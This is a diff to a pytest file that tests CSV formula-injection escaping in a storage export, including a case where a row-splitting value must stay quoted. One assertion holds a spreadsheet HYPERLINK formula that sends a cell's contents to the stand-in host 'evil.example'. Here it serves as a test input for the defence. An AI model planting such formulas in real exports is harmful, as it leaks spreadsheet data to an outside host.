@@ -17,7 +17,13 @@ import pytest
 
 from storage.db import make_engine, make_session_factory
 from storage.export import COLUMNS, export_handoffs
-from tests.support.export_records import HOSTILE_COMMENT, build
+from tests.support.export_records import (
+    FORMULAS,
+    HOSTILE_COMMENT,
+    SPLIT_ROW,
+    build,
+    build_formulas,
+)
 from tests.support.qualifications import NOW
 
 CRITERIA = ("account_fit", "persona", "pain", "timing", "next_steps", "budget", "intent")
@@ -111,6 +117,27 @@ def test_dates_select_by_submission_and_the_header_never_changes(sessions, datab
     assert json.loads(text.splitlines()[0]) == built[1].expected  # children still match
     count, text = _export(database_url, "csv", since=NOW + timedelta(days=100))
     assert count == 0 and text.splitlines() == [",".join(COLUMNS)]
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(sessions, database_url):
+    build_formulas(sessions)
+    _, text = _export(database_url, "csv")
+    row = next(csv.DictReader(io.StringIO(text, newline="")))
+    for column, typed in FORMULAS.items():
+        assert row[column] == "'" + typed, column
+    assert row["company"] == '\'=HYPERLINK("https://evil.example/?d="&A2,"x")'
+    assert row["submitted_at"] == "2026-11-23T14:30:00Z"  # only text cells change
+    assert row["stakeholders"].startswith("[")
+    assert row["trigger"] == SPLIT_ROW  # quoted, so the row holds
+    assert f'"{SPLIT_ROW}"' in text
+
+    _, text = _export(database_url, "csv", raw=True)
+    row = next(csv.DictReader(io.StringIO(text, newline="")))
+    assert {c: row[c] for c in FORMULAS} == FORMULAS
+
+    _, text = _export(database_url, "jsonl")
+    record = json.loads(text)
+    assert {c: record[c] for c in FORMULAS} == FORMULAS
 
 
 def test_unknown_format_is_refused(database_url):
